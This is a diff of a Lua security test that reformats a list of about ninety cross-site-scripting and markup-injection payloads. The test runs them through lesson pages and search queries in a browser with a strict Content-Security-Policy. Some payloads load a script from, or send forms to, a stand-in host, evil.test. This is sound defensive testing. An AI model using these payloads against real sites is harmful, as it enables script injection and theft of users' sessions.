@@ -1,40 +1,97 @@
---- Content and queries that try to become markup, in a real browser with the policy on: each case is
--- the title, the description and the text of a lesson, and a query.
+--- Content and queries that try to become markup, in a real browser with the policy on: each case
+-- is the title, the description and the text of a lesson, and a query.
 local browser = require("spec.support.browser")
 local client = require("spec.support.client")
 local server = require("spec.support.server")
 local svc = require("svc")
 
 local CASES = {
-  "<script>pwned=1</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<ScRiPt>pwned=1</sCrIpT>",
-  "<script>pwned=1", "</script><script>pwned=1</script>", "<script/x>pwned=1</script>",
-  "<scr<script>ipt>pwned=1</scr</script>ipt>", "</title><script>pwned=1</script>",
-  "</main><script>pwned=1</script>", "--><script>pwned=1</script>", "<![CDATA[<script>pwned=1]]>",
-  "<!--<img src=x onerror=pwned=1>-->", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;", "<?php pwned ?>",
-  "<img src=x onerror=pwned=1>", "<img/src=x/onerror=pwned=1>", "<image src=x onerror=pwned=1>",
-  "<svg onload=pwned=1>", "<svg><script>pwned=1</script></svg>", "<svg/onload=pwned=1//",
-  "<math><mtext><script>pwned=1</script></mtext></math>", "<body onload=pwned=1>",
-  "<iframe src=javascript:pwned=1></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
-  "<object data=javascript:pwned=1>", "<embed src=javascript:pwned=1>", "<base href=//evil.test/>",
-  "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>", "<link rel=stylesheet href=//e>",
-  "<style>*{background:url(//evil.test)}</style>", "<p style=background:url(//evil.test)>x</p>",
-  "<form action=//evil.test><button>x</button></form>", "<input autofocus onfocus=pwned=1>",
-  "<details open ontoggle=pwned=1>", "<video><source onerror=pwned=1>", "<audio src=x onerror=pwned=1>",
-  "<marquee onstart=pwned=1>", "<a href=javascript:pwned=1>x</a>", "<a onclick=pwned=1>x</a>",
-  "\" onmouseover=pwned=1 x=\"", "' onmouseover=pwned=1 x='", "\"><img src=x onerror=pwned=1>",
-  "'><svg onload=pwned=1>", "\"autofocus onfocus=pwned=1 \"", "`onload=pwned=1`", "</textarea><b>x",
-  "[x](javascript:pwned=1)", "[x](JaVaScRiPt:pwned=1)", "[x](java&#115;cript:pwned=1)",
-  "[x](javascript&colon;pwned=1)", "[x](&#1;javascript:pwned=1)", "[x](data:text/html,<script>1)",
-  "[x](vbscript:pwned)", "[x](<javascript:pwned=1>)", "[x](//evil.test)", "[x](/\\evil.test)",
-  "[x](https://e.test/\"onclick=pwned=1)", "[x](https://e.test 'a\" onclick=\"pwned=1')",
-  "<javascript:pwned=1>", "<data:text/html,x>", "![x](javascript:pwned=1)", "![\" onerror=pwned=1](x)",
-  "![x](https://evil.test/x.png)", "[x]: javascript:pwned=1", "`<script>pwned=1</script>`",
-  "$\\text{<script>pwned=1</script>}$", "$<img src=x onerror=pwned=1>$", "$\\href{javascript:1}{x}$",
-  "$\\style{a}{b}$", "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;script&#62;pwned=1&#60;/script&#62;",
-  "&amp;lt;script&amp;gt;", "\u{202E}tpircs\u{202C} \u{2066}x", "\u{202E}<script>pwned=1</script>",
-  "\u{FEFF}<script>pwned=1</script>", "\u{FF1C}script\u{FF1E}pwned=1", "{{constructor.pwned=1}}",
-  "${pwned=1}", "{!body} {title}", "%(x)s %1 %%", "x\\\"; pwned=1; //", "\u{2028}pwned=1",
+  "<script>pwned=1</script>",
+  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
+  "<ScRiPt>pwned=1</sCrIpT>",
+  "<script>pwned=1",
+  "</script><script>pwned=1</script>",
+  "<script/x>pwned=1</script>",
+  "<scr<script>ipt>pwned=1</scr</script>ipt>",
+  "</title><script>pwned=1</script>",
+  "</main><script>pwned=1</script>",
+  "--><script>pwned=1</script>",
+  "<![CDATA[<script>pwned=1]]>",
+  "<!--<img src=x onerror=pwned=1>-->",
+  "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
+  "<?php pwned ?>",
+  "<img src=x onerror=pwned=1>",
+  "<img/src=x/onerror=pwned=1>",
+  "<image src=x onerror=pwned=1>",
+  "<svg onload=pwned=1>",
+  "<svg><script>pwned=1</script></svg>",
+  "<svg/onload=pwned=1//",
+  "<math><mtext><script>pwned=1</script></mtext></math>",
+  "<body onload=pwned=1>",
+  "<iframe src=javascript:pwned=1></iframe>",
+  "<iframe srcdoc='<script>parent.pwned=1</script>'>",
+  "<object data=javascript:pwned=1>",
+  "<embed src=javascript:pwned=1>",
+  "<base href=//evil.test/>",
+  "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>",
+  "<link rel=stylesheet href=//e>",
+  "<style>*{background:url(//evil.test)}</style>",
+  "<p style=background:url(//evil.test)>x</p>",
+  "<form action=//evil.test><button>x</button></form>",
+  "<input autofocus onfocus=pwned=1>",
+  "<details open ontoggle=pwned=1>",
+  "<video><source onerror=pwned=1>",
+  "<audio src=x onerror=pwned=1>",
+  "<marquee onstart=pwned=1>",
+  "<a href=javascript:pwned=1>x</a>",
+  "<a onclick=pwned=1>x</a>",
+  '" onmouseover=pwned=1 x="',
+  "' onmouseover=pwned=1 x='",
+  '"><img src=x onerror=pwned=1>',
+  "'><svg onload=pwned=1>",
+  '"autofocus onfocus=pwned=1 "',
+  "`onload=pwned=1`",
+  "</textarea><b>x",
+  "[x](javascript:pwned=1)",
+  "[x](JaVaScRiPt:pwned=1)",
+  "[x](java&#115;cript:pwned=1)",
+  "[x](javascript&colon;pwned=1)",
+  "[x](&#1;javascript:pwned=1)",
+  "[x](data:text/html,<script>1)",
+  "[x](vbscript:pwned)",
+  "[x](<javascript:pwned=1>)",
+  "[x](//evil.test)",
+  "[x](/\\evil.test)",
+  '[x](https://e.test/"onclick=pwned=1)',
+  "[x](https://e.test 'a\" onclick=\"pwned=1')",
+  "<javascript:pwned=1>",
+  "<data:text/html,x>",
+  "![x](javascript:pwned=1)",
+  '![" onerror=pwned=1](x)',
+  "![x](https://evil.test/x.png)",
+  "[x]: javascript:pwned=1",
+  "`<script>pwned=1</script>`",
+  "$\\text{<script>pwned=1</script>}$",
+  "$<img src=x onerror=pwned=1>$",
+  "$\\href{javascript:1}{x}$",
+  "$\\style{a}{b}$",
+  "&lt;script&gt;pwned=1&lt;/script&gt;",
+  "&#60;script&#62;pwned=1&#60;/script&#62;",
+  "&amp;lt;script&amp;gt;",
+  "\u{202E}tpircs\u{202C} \u{2066}x",
+  "\u{202E}<script>pwned=1</script>",
+  "\u{FEFF}<script>pwned=1</script>",
+  "\u{FF1C}script\u{FF1E}pwned=1",
+  "{{constructor.pwned=1}}",
+  "${pwned=1}",
+  "{!body} {title}",
+  "%(x)s %1 %%",
+  'x\\"; pwned=1; //',
+  "\u{2028}pwned=1",
 }
+
+--- A text that has a case in every kind of block.
+local TEXT = "# %s\n\n%s\n\n> %s\n\n- %s\n\n## %s\n\n|a|%s|\n|---|---|\n|1|2|\n\n```%s\n%s\n```\n"
 
 local subject, folder
 local seen = {}
@@ -55,14 +112,16 @@ local function write(path, trust)
       route = path_of(i),
       title = case,
       description = case,
-      text = ("# %s\n\n%s\n\n> %s\n\n- %s\n\n## %s\n\n|a|%s|\n|---|---|\n|1|2|\n\n```%s\n%s\n```\n")
-        :format(case, case, case, case, case, case, case, case),
+      text = TEXT:format(case, case, case, case, case, case, case, case),
     })
   end
   local private, public = svc.keygen()
   local expires = os.time() + 86400
   assert(builder:write(path, {
-    private_key = private, sequence = 1, created = os.time(), expires = expires,
+    private_key = private,
+    sequence = 1,
+    created = os.time(),
+    expires = expires,
   }))
   local keys = { threshold = 1, keys = { public } }
   local root = { expires = expires, root = keys, publication = keys }
@@ -84,7 +143,9 @@ setup(function()
     tasks[#tasks + 1] = { name = "page " .. i, path = "/en/" .. path_of(i) }
     tasks[#tasks + 1] = { name = "query " .. i, path = "/search?query=" .. encode(case) }
   end
-  for _, look in ipairs(browser.look(subject.port, tasks)) do seen[look.name] = look end
+  for _, look in ipairs(browser.look(subject.port, tasks)) do
+    seen[look.name] = look
+  end
 end)
 
 teardown(function()
@@ -123,9 +184,12 @@ end)
 describe("the policy of a page", function()
   it("allows nothing but this origin's own files", function()
     local policy = client.request(subject.port, "/en/" .. path_of(1)).headers
-    assert.equal("default-src 'none'; style-src 'self'; script-src 'self'; font-src 'self'; "
-      .. "img-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; "
-      .. "frame-ancestors 'none'", policy["content-security-policy"])
+    assert.equal(
+      "default-src 'none'; style-src 'self'; script-src 'self'; font-src 'self'; "
+        .. "img-src 'self'; connect-src 'self'; form-action 'self'; base-uri 'none'; "
+        .. "frame-ancestors 'none'",
+      policy["content-security-policy"]
+    )
     assert.equal("nosniff", policy["x-content-type-options"])
   end)
 end)
